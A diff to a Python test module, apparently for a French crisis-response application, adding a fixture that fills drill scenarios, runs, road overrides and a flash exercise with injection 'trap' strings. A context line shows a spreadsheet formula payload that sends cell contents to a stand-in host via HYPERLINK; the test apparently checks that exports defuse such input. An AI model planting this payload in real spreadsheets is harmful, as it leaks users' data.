@@ -8,8 +8,10 @@ from dataclasses import replace
 
 from docx import Document
 
-from app.access.actor import COMMAND_LINE
+from app.access.actor import COMMAND_LINE, volunteer
 from app.core.clock import paris_date
+from app.drills.composition import Composition
+from app.drills.shock import MobileTeam
 from app.response.bulletin import Audience
 from app.roster.person import Mission
 from app.roster.practice import Site, SiteKind
@@ -22,15 +24,23 @@ from app.services import (
     demo_territory,
     demo_trace,
 )
+from app.services.answer_flash import answer_flash
 from app.services.launch_alert import AlertRequest, launch_alert
+from app.services.launch_flash import FlashAsk, launch_flash
 from app.services.open_event import open_event
+from app.services.override_roads import override_road
 from app.services.publish_bulletin import prepare_publication
+from app.services.read_scenarios import read_page
 from app.services.report_situation import begin_report
+from app.services.run_drill import run_composition
+from app.services.save_run import save_run
 from app.services.sign_card import read_signatures, sign_cards
 from app.services.staff_cell import plan_rotation
+from app.services.write_scenario import change_scenario, copy_scenario
 from app.services.write_to_partner import LetterKind, Partner, write_to_partner
-from app.store import community, people
+from app.store import community, flashes, people
 from app.store.database import Connection, Store
+from tests.drills.a_flash import composed as composed_flash
 
 FORMULAS = (
     '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
@@ -77,6 +87,10 @@ TYPED: dict[str, tuple[str, ...]] = {
     "desk_reply": ("name", "stock", "needs"),
     "partner_letter": ("organisation", "name", "subject", "body", "error"),
     "site": ("name",),
+    "road_override": ("reason",),
+    "own_scenario": ("title",),
+    "laboratory_run": ("title",),
+    "flash": ("title",),
 }
 """Columns that hold what somebody typed, on a screen, in a file that was imported or behind a link."""
 
@@ -111,7 +125,32 @@ def a_full_crisis(store: Store) -> str:
         if audience not in (Audience.PUBLIC, Audience.TOWN_HALLS):
             prepare_publication(COMMAND_LINE, store, event_id, audience, "x", "x")
     _template(store)
+    _drills(store)
     return event_id
+
+
+TEAM = MobileTeam(name=f"{FORMULAS[1]} {SCRIPT} {LEAK}"[:120], commune="56007", skills=("nursing",), capacity=9)
+
+
+def _drills(store: Store) -> None:
+    """A scenario written here and a run kept whose every free word is a trap, a road corrected, a flash exercise."""
+    code = copy_scenario(COMMAND_LINE, store, "d768_penthievre")
+    page = read_page(COMMAND_LINE, store, code)
+    words = f"{FORMULAS[0]} {SCRIPT}{CLIMBS} {LEAK} {MARKUP}"[:150]
+    held = page.scenario.model_copy(update={"title": words, "story": words, "starts": words, "watch": (words,)})
+    change_scenario(COMMAND_LINE, store, held, revision=1)
+    composed = Composition(
+        starts_at=store.now(), title=words, scenario=code, shocks=held.shocks, plan=(*held.answers, TEAM)
+    )
+    save_run(COMMAND_LINE, store, run_composition(COMMAND_LINE, store, composed), words)
+    save_run(COMMAND_LINE, store, run_composition(COMMAND_LINE, store, composed), f"{words} 2")
+    override_road(COMMAND_LINE, store, "56168-56234", 45, "x", 0)
+    with store.reading() as conn:
+        everyone = tuple(one.id for one in people.every(conn))
+    launch_flash(COMMAND_LINE, store, FlashAsk(id="piege", title="x", person_ids=everyone), composed_flash())
+    with store.reading() as conn:
+        first = flashes.people_of(conn, "piege")[0].person_id
+    answer_flash(volunteer(first, "x"), store, "piege", first, (0, 0, 0))
 
 
 def a_trap(store: Store) -> None:
